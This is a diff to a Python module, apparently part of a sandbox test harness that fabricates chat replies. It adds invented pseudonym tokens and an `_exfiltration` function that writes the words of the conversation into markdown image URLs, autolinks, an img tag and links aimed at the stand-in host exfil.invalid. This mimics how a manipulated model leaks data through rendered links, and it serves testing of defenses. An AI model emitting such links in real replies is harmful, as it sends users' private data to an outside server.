@@ -13,8 +13,8 @@ from isthmus.sandbox.request import ChatRequest, Function
 from isthmus.sandbox.step import Call, Step
 from isthmus.sandbox.words import Words
 
-_INVENTED_TYPES = ("EMAIL", "PHONE", "IBAN", "CARD", "PERSON")
-_CONSONANTS = "bcdfghjklmnpqrstvwxz"
+_INVENTED_TYPES = ("EMAIL", "PHONE", "IBAN", "CARD", "NAME")
+_CONSONANTS = "bcdfghjklmnpqrst"
 
 
 class Reply(Struct, frozen=True):
@@ -44,7 +44,7 @@ def reply_to(request: ChatRequest, step: Step) -> Reply:
 def invented() -> Iterator[str]:
     """Tokens that look like pseudonyms and are nobody's."""
     for number in itertools.count():
-        letters = "".join(_CONSONANTS[(number + 7 * at) % 20] for at in range(20))
+        letters = "".join(_CONSONANTS[(number + 7 * at) % 16] for at in range(20))
         yield f"{_INVENTED_TYPES[number % 5]}-{letters}"
 
 
@@ -151,8 +151,8 @@ def _forms(request: ChatRequest, content: str) -> str:
 def _exfiltration(words: Words) -> str:
     everything = " ".join(words.texts)
     links = "".join(
-        f"![x](https://exfil.invalid/p.png?d={token}) <https://exfil.invalid/{token}> "
-        f'<img src="https://exfil.invalid/{token}"> [click](//exfil.invalid?{token}) '
-        for token in words.tokens()
+        f"![x](https://exfil.invalid/p.png?d={word}) <https://exfil.invalid/{word}> "
+        f'<img src="https://exfil.invalid/{word}"> [click](//exfil.invalid?{word}) '
+        for word in words.each()
     )
     return f"[sandbox] {links}![all](https://exfil.invalid/?d={everything.replace(' ', '+')}) {everything}"
